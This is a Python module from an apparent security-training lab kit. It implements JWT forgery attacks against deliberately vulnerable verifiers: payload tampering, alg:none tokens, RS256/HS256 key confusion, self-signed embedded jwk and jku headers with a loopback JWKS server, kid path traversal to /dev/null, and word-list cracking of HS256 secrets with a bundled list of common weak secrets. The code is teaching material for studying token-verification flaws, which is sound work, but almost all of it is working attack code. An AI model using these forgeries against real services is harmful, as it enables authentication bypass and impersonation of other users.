"""Breaking tokens: the forgeries the security lessons throw at verifiers.

None of these fool :class:`labkit.cognito.jwt.CognitoVerifier`; each fools the deliberately
vulnerable variant of :mod:`labkit.course.api` built to show that mistake.

* :func:`tamper` edits the payload and keeps the old signature (fools ``skip_signature``).
* :func:`forge_alg_none` drops the signature (``alg: none``; fools ``accept_alg_none``).
* :func:`forge_hs256` signs with HMAC under the pool's *public* key (fools ``trust_header_alg``).
* :func:`public_key_pem` turns a JWKS key into that PEM, as an attacker would.
* :func:`forge_embedded_jwk` signs with the attacker's own key and puts its public half in the
  header's ``jwk`` (fools ``trust_header_jwk``).
* :func:`forge_jku` signs with the attacker's key and points the header's ``jku`` at the attacker's
  JWKS, served by :meth:`AttackerKey.serve_jwks` on 127.0.0.1 (fools ``trust_header_jku``).
* :func:`forge_kid_traversal` sets ``kid`` to a path that climbs out of the key directory to
  ``/dev/null`` and signs HS256 with its contents: nothing (fools ``kid_path_traversal``).
* :func:`crack_hs256` finds an HS256 token's secret in a word list (:data:`COMMON_JWT_SECRETS`),
  then :func:`forge_hs256` signs anything with it (fools ``weak_session_secret``).

These are the header attacks of PortSwigger's JWT labs, made against lab tokens on loopback only.
"""
from __future__ import annotations

import hashlib
import hmac
import json
from typing import Any

import jwt
from jwt.utils import base64url_encode

from ..cognito.jwt import ALGORITHM

__all__ = ["tamper", "forge_alg_none", "forge_hs256", "public_key_pem", "hs256_signature", "pem_of",
           "AttackerKey", "forge_embedded_jwk", "forge_jku", "forge_kid_traversal", "DEV_NULL_KID",
           "COMMON_JWT_SECRETS", "crack_hs256"]

#: A ``kid`` that climbs out of any key directory (up to 12 levels deep) to the empty file /dev/null.
DEV_NULL_KID = "../" * 12 + "dev/null"

#: A short list of secrets people really put in HS256 configs (defaults, examples, keyboard walks).
#: Real lists (jwt-secrets, rockyou) hold thousands to millions; a weak secret falls to them as fast.
COMMON_JWT_SECRETS: tuple[str, ...] = (
    "secret", "secret1", "secret123", "secretkey", "secret-key", "your-256-bit-secret", "your_jwt_secret",
    "jwt_secret", "jwtsecret", "jwt-secret", "mysecret", "my_secret", "mysecretkey", "supersecret",
    "super-secret", "changeme", "changeit", "password", "password1", "passw0rd", "admin", "admin123",
    "123456", "12345678", "qwerty", "letmein", "default", "key", "private", "token", "test", "testing",
    "dev", "development", "production", "s3cr3t", "hunter2", "iloveyou", "welcome", "shhhhh",
    "keyboard cat", "gottacatchemall", "notasecret", "secretsecret", "abc123", "access", "auth",
    "session", "sessionsecret", "cognito",
)


def _b64json(obj: dict) -> str:
    return base64url_encode(json.dumps(obj, separators=(",", ":")).encode()).decode()


def _changed_claims(token: str, claims: dict | None, changes: dict) -> dict:
    payload = jwt.decode(token, options={"verify_signature": False})
    payload.update(claims or {})
    payload.update(changes)
    return payload


def tamper(token: str, claims: dict | None = None, **changes: Any) -> str:
    """The same token with its payload edited, header and signature kept.

    ``tamper(t, {"cognito:groups": ["admin"]})`` or ``tamper(t, username="mallory")``. The old
    signature no longer matches: only a verifier that skips the signature accepts it.
    """
    header_b64, _, signature_b64 = token.split(".")
    return f"{header_b64}.{_b64json(_changed_claims(token, claims, changes))}.{signature_b64}"


def forge_alg_none(token: str, claims: dict | None = None, **changes: Any) -> str:
    """An unsigned copy (``alg: none``, empty signature) with the claims edited as you like."""
    header = jwt.get_unverified_header(token)
    extra = {k: v for k, v in header.items() if k not in ("alg", "typ")}
    return jwt.encode(_changed_claims(token, claims, changes), None, algorithm="none", headers=extra)


def forge_hs256(token: str, secret: bytes | str, claims: dict | None = None, **changes: Any) -> str:
    """A copy signed with HMAC-SHA256 under ``secret``: the RS256/HS256 key-confusion forgery.

    Pass the pool's *public* key as PEM (:func:`public_key_pem`): a verifier that takes ``alg``
    from the header and hands "the key" to HMAC accepts it. Built by hand because PyJWT rightly
    refuses a PEM public key as an HMAC secret.
    """
    header = dict(jwt.get_unverified_header(token), alg="HS256")
    signing_input = f"{_b64json(header)}.{_b64json(_changed_claims(token, claims, changes))}"
    signature = hs256_signature(signing_input, secret.encode() if isinstance(secret, str) else secret)
    return f"{signing_input}.{base64url_encode(signature).decode()}"


def hs256_signature(signing_input: str, secret: bytes) -> bytes:
    """HMAC-SHA256 of ``header.payload`` under ``secret``: what an HS256 signature is."""
    return hmac.new(secret, signing_input.encode(), hashlib.sha256).digest()


def public_key_pem(jwks: dict, kid: str | None = None) -> bytes:
    """The PEM (SubjectPublicKeyInfo) of a JWKS key: by ``kid``, or the first key.

    Public keys are public: this is exactly what an attacker can compute from the JWKS URL.
    """
    keys = jwks.get("keys", [])
    chosen = next((k for k in keys if kid is None or k.get("kid") == kid), None)
    if chosen is None:
        raise KeyError(f"no key with kid {kid!r} in the JWKS")
    return pem_of(jwt.PyJWK(chosen, algorithm=chosen.get("alg", ALGORITHM)).key)


def pem_of(public_key) -> bytes:
    """An RSA public key as PEM text (SubjectPublicKeyInfo), the bytes a naive HS256 check uses as secret."""
    from cryptography.hazmat.primitives import serialization

    return public_key.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)



class AttackerKey:
    """An RSA key pair an attacker made on their own laptop: signs tokens, publishes a JWKS.

    ``key.sign(token, claims, header={...})`` re-signs a copy of ``token`` (claims edited) with RS256
    under this key; :meth:`serve_jwks` publishes the public half on 127.0.0.1 for ``jku`` attacks.
    """

    def __init__(self, kid: str = "attacker-key") -> None:
        from cryptography.hazmat.primitives.asymmetric import rsa

        self.kid = kid
        self.private_key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
        self._server = None
        self.jwks_url: str | None = None

    @property
    def jwk(self) -> dict:
        """The public key as a JWK (what an attacker embeds or publishes)."""
        public = json.loads(jwt.algorithms.RSAAlgorithm.to_jwk(self.private_key.public_key()))
        return {**public, "kid": self.kid, "alg": ALGORITHM, "use": "sig"}

    @property
    def jwks(self) -> dict:
        return {"keys": [self.jwk]}

    def sign(self, token: str, claims: dict | None = None, *, header: dict | None = None, **changes: Any) -> str:
        headers = {"kid": self.kid, **(header or {})}
        return jwt.encode(_changed_claims(token, claims, changes), self.private_key, algorithm=ALGORITHM, headers=headers)

    def serve_jwks(self) -> str:
        """Serve this key's JWKS at ``http://127.0.0.1:<port>/jwks.json`` (werkzeug, a thread) and
        return the URL. :meth:`stop` (or the end of the process) stops it."""
        if self._server is None:
            import threading

            from werkzeug.serving import WSGIRequestHandler, make_server

            class Quiet(WSGIRequestHandler):
                def log(self, *args: Any, **kwargs: Any) -> None:
                    pass

            body = json.dumps(self.jwks).encode()

            def app(environ, start_response):
                found = environ.get("PATH_INFO") == "/jwks.json"
                start_response("200 OK" if found else "404 Not Found", [("Content-Type", "application/json")])
                return [body if found else b"{}"]

            self._server = make_server("127.0.0.1", 0, app, threaded=True, request_handler=Quiet)
            threading.Thread(target=self._server.serve_forever, kwargs={"poll_interval": 0.05},
                             daemon=True, name="labkit-attacker-jwks").start()
            self.jwks_url = f"http://127.0.0.1:{self._server.server_port}/jwks.json"
        return self.jwks_url

    def stop(self) -> None:
        server, self._server = self._server, None
        if server is not None:
            server.shutdown()
            server.server_close()

    def __repr__(self) -> str:
        where = f", JWKS at {self.jwks_url}" if self._server else ""
        return f"<AttackerKey kid={self.kid!r} (RSA 2048, made by the attacker){where}>"


def forge_embedded_jwk(token: str, key: AttackerKey | None = None, claims: dict | None = None,
                       **changes: Any) -> str:
    """A copy signed with the attacker's key, whose public half rides in the header's ``jwk``.

    A verifier that takes "the key" from the token it is checking accepts anything: the token
    vouches for itself. A correct verifier only uses keys from the pool's JWKS.
    """
    key = key or AttackerKey()
    return key.sign(token, claims, header={"jwk": key.jwk}, **changes)


def forge_jku(token: str, key: AttackerKey, claims: dict | None = None, **changes: Any) -> str:
    """A copy signed with the attacker's key and a ``jku`` header pointing at the attacker's JWKS
    (started with :meth:`AttackerKey.serve_jwks` if it is not running)."""
    return key.sign(token, claims, header={"jku": key.serve_jwks()}, **changes)


def forge_kid_traversal(token: str, kid: str = DEV_NULL_KID, secret: bytes = b"", claims: dict | None = None,
                        **changes: Any) -> str:
    """An HS256 copy whose ``kid`` is a path out of the key directory (default: to /dev/null),
    signed with what that file holds (``secret``; /dev/null holds nothing, so the empty secret).
    """
    header = {"alg": "HS256", "typ": "JWT", "kid": kid}
    signing_input = f"{_b64json(header)}.{_b64json(_changed_claims(token, claims, changes))}"
    return f"{signing_input}.{base64url_encode(hs256_signature(signing_input, secret)).decode()}"


def crack_hs256(token: str, wordlist=COMMON_JWT_SECRETS) -> str | None:
    """The word of ``wordlist`` that ``token``'s HS256 signature was made with, or None.

    Offline and fast: an HS256 token is its own test of a guess, no server is asked. ``wordlist``
    is any iterable of strings (a list, or an open file: lines are stripped).
    """
    if jwt.get_unverified_header(token).get("alg") != "HS256":
        raise ValueError("only an HS256 token can be cracked with a word list (RS256 has no shared secret)")
    signing_input, _, signature_b64 = token.rpartition(".")
    from jwt.utils import base64url_decode

    signature = base64url_decode(signature_b64)
    for word in wordlist:
        word = word.rstrip("\r\n")
        if hmac.compare_digest(hs256_signature(signing_input, word.encode()), signature):
            return word
    return None
